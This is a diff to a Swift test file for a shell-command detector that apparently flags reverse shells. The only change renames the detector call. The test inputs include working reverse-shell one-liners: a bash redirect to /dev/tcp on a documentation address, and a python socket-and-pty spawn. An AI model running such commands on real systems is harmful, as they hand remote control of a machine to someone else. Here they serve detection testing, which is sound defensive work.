@@ -2,6 +2,7 @@ import Testing
 
 @testable import Guard
 
+/// `Signal.shellOpensConnection`.
 struct ShellOpensConnectionTests {
   @Test(arguments: [
     "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
@@ -11,7 +12,7 @@ struct ShellOpensConnectionTests {
     #"python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")'"#,
   ])
   func `a shell whose commands come over a connection is held`(text: String) {
-    #expect(ShellOpensConnection.severity(of: text) == .hold)
+    #expect(Signal.shellOpensConnection.severity(of: text) == .hold)
   }
 
   @Test(arguments: [
@@ -19,7 +20,7 @@ struct ShellOpensConnectionTests {
     "echo x > /dev/udp/192.0.2.1/53",
   ])
   func `a connection of the shell alone is noticed`(text: String) {
-    #expect(ShellOpensConnection.severity(of: text) == .notice)
+    #expect(Signal.shellOpensConnection.severity(of: text) == .notice)
   }
 
   @Test(arguments: [
@@ -30,6 +31,6 @@ struct ShellOpensConnectionTests {
     "python3 -c 'import socket; print(socket.gethostname())'",
   ])
   func `other connections are harmless`(text: String) {
-    #expect(ShellOpensConnection.severity(of: text) == nil)
+    #expect(Signal.shellOpensConnection.severity(of: text) == nil)
   }
 }
